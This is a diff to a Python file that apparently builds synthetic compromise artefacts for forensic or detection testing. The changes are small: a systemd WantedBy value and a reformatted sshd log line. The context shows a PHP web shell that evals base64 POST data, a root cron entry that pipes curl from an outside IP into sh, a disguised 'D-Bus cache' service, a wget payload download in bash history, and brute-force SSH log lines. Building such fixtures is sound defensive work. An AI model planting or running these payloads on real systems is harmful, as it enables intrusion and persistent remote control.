@@ -16,7 +16,7 @@ WEB_SHELL = b"<?php if(isset($_REQUEST['c'])){ @eval(base64_decode($_POST['c']))
 FAILURES = 30
 
 CRON = "# system\n* * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n17 3 * * * root /usr/bin/updatedb\n"
-SERVICE = "[Unit]\nDescription=D-Bus cache\n[Service]\nExecStart=/tmp/.cache/dbusd -d\n[Install]\nWantedBy=multi-user.target\n"
+SERVICE = "[Unit]\nDescription=D-Bus cache\n[Service]\nExecStart=/tmp/.cache/dbusd -d\n[Install]\nWantedBy=x\n"
 TIMER = "[Timer]\nOnCalendar=*:0/5\nUnit=dbus-cache.service\n[Install]\nWantedBy=timers.target\n"
 HISTORY = (
     "#1772357400\nls -la\n#1772357410\nwget http://203.0.113.9/x -O /tmp/.x\n"
@@ -48,7 +48,9 @@ def _auth() -> str:
         for second in range(FAILURES)
     ]
     lines.append(f"Mar  1 09:05:07 web1 sshd[901]: Accepted password for root from {EVIL} port 40300 ssh2")
-    lines.append("Mar  1 09:05:07 web1 sshd[901]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")
+    lines.append(
+        "Mar  1 09:05:07 web1 sshd[901]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"
+    )
     return "\n".join(lines) + "\n"
 
 
